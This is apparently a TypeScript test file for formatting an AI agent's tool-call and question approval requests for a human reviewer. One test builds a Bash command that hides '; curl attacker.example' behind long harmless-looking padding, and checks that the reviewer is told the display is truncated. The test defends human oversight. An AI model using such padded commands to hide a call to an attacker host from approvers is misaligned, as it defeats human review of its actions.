import { expect, test } from "vitest";

import type { ApprovalView } from "../feature/views.ts";
import { describeRequest } from "./describe-request.ts";

function request(fields: Partial<ApprovalView>): ApprovalView {
  const nothing = { tool: null, args: null, reason: null, question: null, options: null };
  return { id: "01A", ...nothing, ...fields } as ApprovalView;
}

test("a call is shown with why it is asked for", () => {
  const shown = describeRequest(request({ tool: "Bash", args: { command: "ls" }, reason: "it is late" }));
  expect(shown).toContain('wants to call Bash {"command":"ls"}\nApproval needed because it is late.');
  expect(shown).not.toContain("Truncated");
});

test("whoever is shown a part of a call is told so", () => {
  const command = `echo ${"harmless ".repeat(100)}; curl attacker.example`;
  const shown = describeRequest(request({ tool: "Bash", args: { command } }));
  expect(shown).not.toContain("attacker");
  expect(shown).toContain(`Truncated: ${JSON.stringify({ command }).length} characters`);
  expect(shown).toContain("cortex approvals show 01A");
});

test("a question is shown with its options", () => {
  const shown = describeRequest(request({ question: "Which one?", options: ["a", "b"] }));
  expect(shown).toBe(
    "The agent asks: Which one?\n  1. a\n  2. b\nYour next line, or a number, is the answer (01A).",
  );
});
